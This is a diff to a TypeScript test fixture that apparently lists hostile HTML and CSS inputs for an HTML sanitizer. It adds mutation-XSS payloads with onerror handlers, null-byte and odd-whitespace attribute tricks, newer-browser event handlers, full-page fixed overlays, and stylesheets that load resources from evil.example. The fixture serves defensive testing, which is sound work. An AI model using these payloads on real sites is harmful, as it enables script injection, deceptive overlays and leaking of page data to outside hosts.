@@ -68,6 +68,25 @@ export const HOSTILE_LETTERS: Readonly<Record<string, string>> = {
   ping: '<a href="https://a.example" ping="https://evil.example/ping">x</a>',
   'fixed cover':
     '<div style="position:fixed;inset:0;z-index:99999;background:red"><a href="https://evil.example">x</a></div>',
+  'fixed cover by a sheet, by sticky and by a transform':
+    '<style>.c{position:fixed!important;inset:0}.s{position:sticky;top:0}@media all{.c{position:fixed}}@layer x{.c{position:fixed}}@supports (top:0){.c{position:fixed}}</style><div class="c">x</div><p class="s">x</p>',
+  'nested rules that cover and fetch':
+    '<style>.n{color:red;& b{position:fixed;background:url(https://evil.example/n.png)}}</style><div class="n"><b>x</b></div>',
+  'sheet that types what it reads':
+    '<style>@import url(//evil.example/a);@namespace url(https://evil.example/n);@container (width>1px){b{background:url(https://evil.example/c)}}@property --p{syntax:"*";inherits:false;initial-value:url(https://evil.example/p)}@counter-style q{system:cyclic;symbols:url(https://evil.example/q)}</style><b>x</b>',
+  'attr and image of a typed value':
+    '<b data-x="https://evil.example/attr" style="background-image:image(attr(data-x type(<url>)));background:src(attr(data-x))">x</b>',
+  'mXSS by mglyph and malignmark': `<math><mtext><table><mglyph><style><![CDATA[</style><img src=x onerror="${HARM}">]]></style></mglyph></table></mtext></math>`,
+  'mXSS by desc and foreignObject': `<svg><desc><style><a title="</style><img src=x onerror='${HARM}'>"></style></desc><foreignObject><p><style><!--</style><img src=x onerror="${HARM}">--></style></p></foreignObject></svg>`,
+  'mXSS by plaintext, noembed and noframes': `<noembed><img title="</noembed><img src=x onerror='${HARM}'>"></noembed><noframes><p title="</noframes><img src=x onerror='${HARM}'>"></noframes><plaintext><img src=x onerror="${HARM}">`,
+  'mXSS by title in svg': `<svg><title><style><a id="</title><img src=x onerror='${HARM}'>"></style></title></svg>`,
+  'mXSS by deep nesting that flattens': `${'<math><mi>'.repeat(300)}<style><!--</style><img title="--&gt;&lt;img src=x onerror='${HARM}'&gt;">`,
+  'processing instruction': `<?xml-stylesheet href="https://evil.example/x.xsl"?><?x ><img src=x onerror='${HARM}'>?>`,
+  'null and odd white space in names': `<img\u000Csrc=x\u000Conerror="${HARM}"><im\u0000g src=x onerror="${HARM}"><a href="\u0000javascript:${HARM}">x</a>`,
+  'handlers of newer browsers': `<div oncontentvisibilityautostatechange="${HARM}" style="content-visibility:auto">x</div><div popover onbeforetoggle="${HARM}" id=q></div><a onpointerrawupdate="${HARM}" onscrollend="${HARM}">x</a>`,
+  'commands and anchors of newer browsers':
+    '<button commandfor=d command=show-modal>x</button><dialog id=d closedby=any>x</dialog><div anchor=d style="position:fixed;position-anchor:--a;inset:anchor(auto)">x</div>',
+  'noscript in head': `<head><noscript><style></noscript><img src=x onerror='${HARM}'></style></noscript></head>`,
   'mXSS by noscript': `<noscript><p title="</noscript><img src=x onerror='${HARM}'>">`,
   'mXSS by math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='${HARM}'&gt;">`,
   'mXSS by math and annotation': `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${HARM}"></style></annotation-xml></math>`,
